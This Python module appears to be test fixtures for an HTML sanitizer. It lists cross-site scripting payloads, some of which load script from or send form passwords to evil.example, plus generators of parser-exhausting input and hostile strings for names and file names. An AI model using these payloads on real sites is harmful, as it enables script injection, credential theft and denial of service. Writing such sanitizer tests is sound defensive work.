"""What somebody may write to harm who reads it."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/relative'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://x.example' onclick='alert(1)' style='position:fixed' target=_top>x</a>",
    "<a href='https://x.example/\"onmouseover=alert(1) y=\"'>x</a>",
    "<a href='https://x\u202e.example/'>x</a>",
    "<a href='http://[::1'>x</a>",
    "<a <b href='javascript:alert(1)'>x",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=https://evil.example><input name=password><button formaction=x>",
    "<video src=x onerror=alert(1)><audio src=x><source srcset=x><picture>",
    "<table background='https://evil.example/x'><td background=x>",
    "<body onload=alert(1)>",
    "<div id=main class=left name=x data-due=x>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<<script>script>alert(1)<</script>/script>",
    "<p title='<script>'>x</p><script",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "</main></body></html><b>x</b>",
    "{{ 7 * 7 }}<b>{% raw %}</b>",
]

BOMBS: dict[str, Callable[[int], str]] = {
    "nested blocks": lambda n: "<div>" * n,
    "formatting without end": lambda n: "".join(f"<b id={i}><p>" for i in range(n)),
    "formatting hidden in formatting": lambda n: "<<b>b id=1><p>" * n,
    "formatting in comments": lambda n: "".join(f"<b id={i}><!-- </b> --><p>" for i in range(n)),
    "nested tables": lambda n: "<table><tr><td>" * n,
    "links": lambda n: "".join(f"<a href={i}><div>" for i in range(n)),
    "links that lead somewhere": lambda n: "<a href=https://x.example>y<br>" * n,
    "attributes": lambda n: "<p " + " ".join(f"a{i}=1" for i in range(n)) + ">",
    "attributes of a link": lambda n: "<a " + " ".join(f"a{i}=1" for i in range(n)) + "><b>",
    "closings": lambda n: "<div>" * n + "</p>" * n,
    "quotes": lambda n: "<blockquote>" * n + "x<br>" * n,
    "quotes of text": lambda n: ">" * n + " x\n" + "> x\n\n" * n,
    "opened": lambda n: "<" * n,
    "scripts that never end": lambda n: "<b>" + "<script>" * n,
    "letters of a tag": lambda n: "<" + "a" * n,
    "signs": lambda n: "<b>" + "&" * n,
    "marks": lambda n: "a" + "\u0301" * n,
    "marks apart": lambda n: "a" + "<b>\u0301</b>" * n,
    "nothing to be seen": lambda n: "\u200b" * n + "\u200d" * n,
    "one line": lambda n: "x" * n,
    "lines": lambda n: "\n" * n,
    "addresses": lambda n: "https://x.example/ " * n,
}
"""What asks for more work than it is long."""

LINES = [
    "\u202eexe.gpj",
    "\u200b\u200b\u200b",
    "</title><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '"><img src=https://evil.example/x onerror=alert(1)>',
    "Z\u0351\u036b\u0343\u032a\u033b\u0329\u031e\u034a\u0301\u0312\u0310",
    "\x00\x1b[2Jcleared\x07",
    "javascript:alert(1)",
    "\ud83d",
    "w" * 2000,
]
"""What may stand in a subject, a name, an order's number, a file's name, a language."""
